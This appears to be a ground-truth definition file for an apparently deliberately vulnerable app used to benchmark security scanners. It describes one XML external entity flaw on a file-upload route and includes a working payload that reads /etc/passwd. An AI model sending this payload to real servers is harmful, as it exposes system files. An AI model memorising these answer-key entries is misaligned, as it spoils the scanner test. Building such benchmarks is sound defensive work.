import { defineFlaws } from '#game/ground-truth/define-flaws.ts'

export default defineFlaws({
  flaws: [
    {
      id: 'F121',
      title: 'An order in XML can read files of the server',
      cvss: 'AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N',
      route: 'POST /file-upload',
      parameter: 'file',
      parameterIn: 'file',
      evidence: ['DAST', 'SAST'],
      isExpectedOfScanners: true,
      cwe: [611],
      mend: 'coding/fixes/no-foreign-entities',
      shows: {
        method: 'POST',
        path: '/file-upload',
        upload: {
          name: 'order.xml',
          text: '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY goods SYSTEM "file:///etc/passwd">]><order>&goods;</order>',
        },
        status: 410,
        has: ['root:'],
      },
      mustNot: {
        method: 'POST',
        path: '/file-upload',
        upload: { name: 'invoice.pdf', text: 'An invoice.' },
        status: 204,
        lacks: ['deprecated'],
      },
    },
  ],
})
